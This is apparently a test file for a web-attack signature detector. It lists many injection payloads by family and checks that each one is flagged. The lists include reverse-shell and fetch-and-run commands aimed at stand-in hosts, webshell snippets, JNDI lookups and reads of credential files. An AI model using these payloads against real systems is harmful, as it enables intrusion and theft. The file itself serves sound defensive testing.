import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { ATTACK_FAMILIES, type AttackFamily } from '@palisade/vocabulary/attackFamilies.ts';
import { WEAKNESSES } from '@palisade/vocabulary/weaknesses.ts';
import { findSignatures } from './findSignatures.ts';
import { SUSPECT_WEIGHT, totalWeight } from './signature.ts';

const ATTACKS: Readonly<Partial<Record<AttackFamily, readonly string[]>>> = {
  sql: [
    '’ or ‘a’=‘a',     "x' or 'a'='a", "x' or 1=1 -- ", '7 or 7=7', '7) or (7=7', "admin'--", "admin' #", "x'; drop table users; --", '7; waitfor delay \'0:0:9\'', "x' union select null, name, secret from accounts -- ", '-7 union all select 1,2,3', '7 order by 12-- ', "x' order by 12#", "x') as t where 3=3 union select 1#",
    "x'||(select password from users limit 1)||'", "x' and sleep(9) and 'a'='a", '7 and (select count(*) from information_schema.tables) > 3', 'extractvalue(1,concat(0x7e,version()))', 'x" and "b"="b', '7/**/or/**/7=7', '7 /*!50000union*/ /*!50000select*/ 1,2', 'select name, secret from accounts where id = 1', 'insert into users (name) values (1)', "x' and ascii(substr((select secret from a),1,1))>64--", "x' like 'x", '(select(0)from(select(sleep(9)))v)', "7;exec master..xp_cmdshell 'dir'--", "x' procedure analyse()-- ", '7,(case when 4=4 then 1 else 0 end)',
    '7 where 81 = 81', '7 ) ) as lamp where 6 = 6', 'iif ( 31 = 47, 1, 1/0 )', '7);if(8=9) select 8 else drop function lamp--', "waitfor delay '0:0:9'#", 'declare @q varchar ( 90 ) select @q = 0x6c616d70', "create or replace function nap ( int ) returns int as 'libc.so.6' language 'c'", '7 or case when 3=4 then 3 else json(char(76)) end', 'or 5 between 4 and 6',
    ' having 7=8#', ' or a=b#', 'or false--', "x' group by lamp having 7=7--", "x' insert into lamps(name) values('a')", "')) waitfor delay '0:0:9' /*", "x' or ''-'", 'sleep(9)="', 'select system_user;', 'select count(*) from lamps.lamps as a, lamps.shades as b--', '/*!union*//*!select*/', ", find_in_set('7', sizes)", '0x6c616d70 exec ( @q )', "end and ('lamp'='lamp", ' ( 8 = 9 ) * 9', '/**/where/**/7=7/**/rlike/**/sleep(9)',
  ],
  noSql: ['{"$gt":""}', '{"password":{"$ne":null}}', "x'; return true; var y='", "x' || '1'=='1", 'this.password.match(/.*/)', "', $or: [ {}, { 'a':'a", 'db.users.drop()', '{"$where":"sleep(900)"}', 'lamp; return true', "x' or count(parent::lamp)=1 or 'a'='b", 'count(/child::lamp)', 'lamp/ancestor::node()'],
  xss: [
    '<script>alert(7)</script>', '<img src=x onerror=alert(7)>', '<svg/onload=confirm(7)>', '" onmouseover="prompt(7)', "';alert(7)//", 'javascript:alert(7)', '<a href="jav&#x09;ascript:alert(7)">x</a>', '<iframe src="//elsewhere.example">', '<body onload=a()>', '<details open ontoggle=a(7)>', '</script><b>', '<div style="width: expression(a(7))">',
    '<math><a xlink:href="javascript:a(7)">', '<input autofocus onfocus=a(7)>', '<object data="data:text/html;base64,x">', 'self["al"+"ert"](7)', '[].filter.constructor("a(7)")()', '<meta http-equiv="refresh" content="0;url=javascript:a(7)">', 'document.cookie', '<base href="//elsewhere.example/">', '<x onclick=a(7)>', '<form><button formaction=javascript:a(7)>', '"o<b>nclick=alert<b>(7)', '<body onload~;:=alert(7)>', 'onclick=;go(cookie)', '}confirm(7);{//', '//javascript:confirm(7)', 'javascript:\\u0061(7)', '<v:vmlframe src="//elsewhere.example">', '[7] . /**/ sort . call`${alert}7`',
  ],
  command: ['; cat /etc/passwd', '| id', '&& whoami', '`id`', '$(id)', 'x; ls -la', 'a|/usr/bin/id', '\nwget http://elsewhere.example/x.sh', ';c\'a\'t /etc/hosts', 'x & ping -c 4 192.0.2.7', '() { :;}; /bin/bash -c id', 'cat${IFS}/etc/passwd', 'x && powershell -enc aQBkAA==', '|| curl http://192.0.2.7/x | sh', '; nc -e /bin/sh 192.0.2.7 4444', '& dir c:\\',
    'cd /;cd srv;cat shadow', ';chmod +x lamp.pl', ';"wget" http://elsewhere.example', "w''get http://elsewhere.example", 'w\\get http://elsewhere.example', 'h$@ostname -f', 'hea$*d /etc/hosts', '{c""at,/etc/hosts}', '; cat$z /etc$z/hosts$z', '7;.shell id', '| netsh advfirewall set allprofiles state off', '| reg query "HKCU\\Software"', 'net localgroup administrators lamp /add', 'type d:\\lamps.txt', 'x;whoami\\n', '\\n/usr/bin/env;', "perl -e 'print 7'", "$'\\143\\141\\164'", '; sh$z -c id'],
  code: ['<?php system($_GET["c"]); ?>', 'phpinfo();system("id")', '<!--#exec cmd="id" -->', 'require("child_process").exec("id")', '__import__("os").system("id")', 'T(java.lang.Runtime).getRuntime().exec("id")', 'eval(base64_decode("aWQ="))', '<% eval request("c") %>', 'class.module.classLoader.resources', 'Kernel.exec("id")', '{php}echo 7;{/php}', '$ {"lamp"}', 'process[lamp.name]', '@{   [  `id`  ]  }', 'ClassPathXmlApplicationContext("http://elsewhere.example")'],
  pathTraversal: ['../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/shadow', '....//....//etc/hosts', '/var/www/../../etc/passwd', '.git/config', '/.env', 'WEB-INF/web.xml', 'c:\\boot.ini', '..;/manager', '/proc/self/environ', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%afetc/passwd', '/static/..',
    '%c0%fe%c0%fe%c1%8setc%c1%8sgroup', '%c0.%c0.%uefc8win.ini', '..5c..5c..5clamps', '.\\/.\\/.\\/.\\/lamps', './/..//lamps', '\\.\\.\\/\\.\\.\\/lamps', '/etc/lampd.conf', '/var/lp/log', '/old/logs/error.log', '\\httpd\\conf\\lamps', '/lamps/.shosts', '/.kiro/settings.json', 'lamps/actuator/threaddump', '/jolokia/read/lamp', '/site/conf/php.ini', '%c0.%c0.0x5cwin.ini', '..%uefc8lamp', '/boot/grub/lamp', '/lamp.php;.gif', '/lamp.jsp%0A.png', '/lamp.phtml\\u0023.jpg'],
  fileInclusion: ['php://filter/convert.base64-encode/resource=index', 'file:///etc/hosts', 'expect://id', 'http://192.0.2.7/shell.txt', 'data://text/plain;base64,x', 'http://elsewhere.example/x.txt?', 'convert.iconv.UTF8.UTF16', 'https://[2001:db8::7]/lamp.php', '/uploads/wso2.php'],
  ssrf: ['http://localhost:6379/', 'http://10.0.0.5:9200/_cat/indices', 'http://kubernetes.default.svc/api', 'http://lamps.shop.svc.cluster.local:8080/', 'http://169.254.169.254/latest/meta-data/', 'http://2130706433/', 'http://0x7f000001/', 'http://[::1]/admin', 'gopher://192.0.2.7:6379/_x', 'http://127.1/', 'dict://192.0.2.7:11211/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://10.0.0.7.nip.io/', 'http://00300.0x0.0002.7/', 'http:127.0.0.1/admin', 'http://lamp@0300.0.2.7/', 'https://shop.example.com@elsewhere.example/', '/\\\\elsewhere.example', '////elsewhere.example/x', 'https://////elsewhere.example', 'next=/\\elsewhere.example', 'https:elsewhere.example', 'a7b9c3d1e5.oast.site', 'root@a7b9c3d1e5.interact.sh', '<methodCall><methodName>pingback.ping</methodName></methodCall>'],
  xxe: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>', '<!DOCTYPE a SYSTEM "http://elsewhere.example/a.dtd"><a/>', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://elsewhere.example/x"> %x;]>', '<xi:include href="file:///etc/hosts"/>'],
  template: ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', "{{''.__class__.__mro__}}", '{{config.items()}}', '<#assign x="freemarker.template.utility.Execute"?new()>', '*{T(java.lang.Runtime)}', '{{request.application.__globals__}}', '${{7*7}}', '{{ self }}', '{$smarty.now}'],
  ldap: ['*)(uid=*', '*)(|(uid=*))', 'admin)(&)', 'x)(|(password=*)', '(&(uid=admin)(!(a=b)))', '*)(objectClass=*', 'x)\t(\t|'],
  jndi: ['${jndi:ldap://elsewhere.example/a}', '${${lower:j}ndi:rmi://elsewhere.example/a}', '${${::-j}${::-n}di:dns://x}', '${env:AWS_SECRET}'],
  crlf: ['x\r\nSet-Cookie: a=b', 'x%0d%0aLocation: https://elsewhere.example', 'x\r\n\r\nHTTP/1.1 200 OK', 'a\nGET /admin HTTP/1.1', '嘊嘍Set-Cookie:a=b', 'x\r\nBcc: all@mail.example', '4711\nSHIPPED: user Ada', '4711\nLAMP ERROR: user Ada'],
  deserialisation: ['gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', 'O:4:"User":1:{s:4:"name";s:1:"a";}', '!!python/object/apply:os.system ["id"]', '_$$ND_FUNC$$_function(){}()', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}', 'AAEAAAD/////AQAAAAAAAAAMAgAAAA', '!!javax.script.ScriptEngineManager [x]', '\xac\xed\0\x05sr'],
  prototypePollution: ['{"__proto__":{"admin":true}}', '__proto__[admin]', 'constructor.prototype.admin', '{"constructor":{"prototype":{"a":1}}}'],
  graphQl: ['{ __schema { queryType { name } types { name } } }', `{ ${'a { '.repeat(20)}id${' }'.repeat(20)} }`, `{ ${Array.from({ length: 60 }, (_, n) => `a${n}: login(code: ${n})`).join(' ')} }`, 'fragment F on User { friends { ...F } } query { me { ...F } }'],
};

describe('ENG-04 signatures of each family', () => {
  for (const [family, values] of Object.entries(ATTACKS)) {
    test(`find attacks: ${ATTACK_FAMILIES[family as AttackFamily].name}`, () => {
      const missed = values.filter((value) => {
        const signatures = findSignatures(value, { location: 'query', name: 'value' });
        return totalWeight(signatures) < SUSPECT_WEIGHT || !signatures.some((one) => one.family === family);
      });
      assert.deepEqual(missed, []);
    });
  }

  test('say little of what is no attack by itself: tools of those who run systems, settings, copies and dumps', () => {
    for (const value of ['ansible-galaxy install lamp', 'kubectl get pods', 'terraform destroy', 'time; docker-compose', 'net share', 'which socat', 'memory_limit=1G', '/lamps.sql.gz', '/lamps.bak']) {
      const signatures = findSignatures(value, { location: 'query', name: 'value' });
      assert.ok(signatures.length > 0 && totalWeight(signatures) < SUSPECT_WEIGHT, value);
    }
  });

  test('have an OWASP class and a known weakness', () => {
    for (const { cweId, owasp } of Object.values(ATTACK_FAMILIES)) assert.ok(cweId in WEAKNESSES && /^API(?:10|[1-9]):2023$/.test(owasp), cweId);
  });
});
